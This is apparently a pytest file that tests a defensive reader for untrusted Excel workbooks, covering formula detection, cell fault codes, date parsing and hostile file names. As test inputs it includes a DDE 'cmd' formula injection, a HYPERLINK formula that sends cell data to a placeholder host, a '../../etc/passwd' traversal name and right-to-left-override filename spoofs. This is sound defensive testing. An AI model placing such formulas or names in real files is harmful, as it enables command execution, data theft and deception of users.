"""Cells that are refused one by one while the rest of the return is read, and strange things that are no harm at all."""

from __future__ import annotations

from datetime import date

import pytest

from cvsb_xl.framework.load import load_framework
from cvsb_xl.tracker.values import parse
from cvsb_xl.xlsx.child import read_untrusted
from cvsb_xl.xlsx.preflight import preflight
from cvsb_xl.xlsx.read import Book, Sheet
from tests.hostile.packages import MAIN, sheet, workbook

ASSIGNMENTS = load_framework()["assignments"]
PART = "xl/worksheets/sheet1.xml"


def returned(cells: str, **more: object) -> Sheet:
    """The sheet of a return with these cells in row 1, read as returns are read."""
    (result,) = read_untrusted([("SWP.xlsx", workbook(f'<row r="1">{cells}</row>', **more))])
    assert isinstance(result, Book), result
    return result.sheets["Sheet"]


@pytest.mark.parametrize(
    "cell",
    [
        '<c r="A1"><f>1+1</f><v>2</v></c>',
        '<c r="A1" t="str"><f>HYPERLINK("http://x.test/?"&amp;B1,"In progress")</f><v>In progress</v></c>',
        '<c r="A1" t="str"><f>cmd|\'/C calc\'!A0</f><v>In progress</v></c>',
        '<c r="A1" t="str"><f t="array" ref="A1">B1</f><v>In progress</v></c>',
        '<c r="A1" t="str">\n\t<f\n>B1</f><v>In progress</v></c>',
        '<c r="A1" t="str"><v>In progress</v><f>B1</f></c>',
        f'<c r="A1" t="str"><z:f xmlns:z="{MAIN}">B1</z:f><v>In progress</v></c>',
        '<c t="str" r="A1"><f ca="1"/><v>In progress</v></c>',
    ],
)
def test_a_formula_in_a_cell_is_known_however_it_is_written(cell: str) -> None:
    assert (1, 1) in returned(cell + '<c r="B1"><v>1</v></c>').formulas


@pytest.mark.parametrize(
    ("field", "cell", "code"),
    [
        ("evidence", '<c r="A1"><v>NaN</v></c>', "D104"),
        ("completed_on", '<c r="A1"><v>1e999</v></c>', "D104"),
        ("evidence", '<c r="A1" t="e"><v>#REF!</v></c>', "D104"),
        ("completed_on", '<c r="A1" t="e"><v>#VALUE!</v></c>', "D104"),
        ("progress", '<c r="A1" t="e"><v>#N/A</v></c>', "D104"),
        ("evidence", '<c r="A1" t="inlineStr"><is><t>bell_x0007_</t></is></c>', "X201"),
        ("evidence", '<c r="A1" t="inlineStr"><is><t>file&#x202E;cod.exe</t></is></c>', "X201"),
        ("evidence", f'<c r="A1" t="inlineStr"><is><t>{"x" * 40_000}</t></is></c>', "D105"),
        ("completed_on", '<c r="A1" t="inlineStr"><is><t>03/04/27</t></is></c>', "D101"),
        ("completed_on", '<c r="A1" t="inlineStr"><is><t>On going</t></is></c>', "D101"),
        ("progress", '<c r="A1" t="inlineStr"><is><t>Nearly done</t></is></c>', "D102"),
    ],
)
def test_a_bad_cell_is_a_fault_with_its_code_and_its_neighbour_is_read(
    field: str, cell: str, code: str
) -> None:
    found = returned(cell + '<c r="B1" t="inlineStr"><is><t>neighbour</t></is></c>')
    fault = parse(ASSIGNMENTS[field], found.value(1, 1)).fault
    assert fault is not None
    assert fault.code == code
    assert found.value(1, 2) == "neighbour"


@pytest.mark.parametrize(
    ("cells", "more", "value"),
    [
        ('<c r="A1" s="1"><v>45015</v></c>', {"date1904": True}, date(2027, 3, 31)),
        ('<c r="A1" t="inlineStr"><is><t>31 March 2027</t></is></c>', {}, date(2027, 3, 31)),
        ('<c r="A1" t="inlineStr"><is><t>31ain o Fawrth 2027</t></is></c>', {}, date(2027, 3, 31)),
        ('<c r="A1" t="inlineStr"><is><t>N/A</t></is></c>', {}, None),
        (
            "<c><v>46477</v></c>",
            {"parts": {PART: sheet('<row><c s="1"><v>46477</v></c></row>')}},
            date(2027, 3, 31),
        ),
        ('<c r="A1" s="1"><v>46477</v></c>', {"state": "veryHidden"}, date(2027, 3, 31)),
    ],
)
def test_what_is_odd_but_clear_is_handled(cells: str, more: dict[str, object], value: date | None) -> None:
    parsed = parse(ASSIGNMENTS["completed_on"], returned(cells, **more).value(1, 1))
    assert (parsed.value, parsed.fault) == (value, None)


def test_hidden_and_filtered_rows_and_columns_are_read_like_any_other() -> None:
    part = (
        f'<worksheet xmlns="{MAIN}"><cols><col min="1" max="2" hidden="1"/></cols><sheetData>'
        '<row r="1" hidden="1"><c r="A1"><v>1</v></c></row><row r="2"><c r="B2"><v>2</v></c></row></sheetData>'
        '<autoFilter ref="A1:B2"/></worksheet>'
    )
    assert returned("", parts={PART: part}).grid == [[1, None], [None, 2]]


def test_names_with_folders_300_characters_or_emoji_only_stand_in_messages() -> None:
    names = [
        "../../etc/passwd",
        "C:\\Users\\CON.xlsx",
        "x" * 300 + ".xlsx",
        "\U0001f600.xlsx",
        "\u202egpj.xlsx",
        "a\udce9.xlsx",
        "",
    ]
    sound = read_untrusted([(name, workbook()) for name in names])
    assert all(isinstance(result, Book) for result in sound)
    refused = read_untrusted([(name, b"") for name in names])
    assert [str(result).startswith(name) for name, result in zip(names, refused, strict=True)] == [
        True
    ] * len(names)


def test_the_same_file_passes_preflight_as_a_tracker_and_as_a_return() -> None:
    preflight(workbook(), "a.xlsx", kind="tracker")
    preflight(workbook(), "a.xlsx", kind="return")
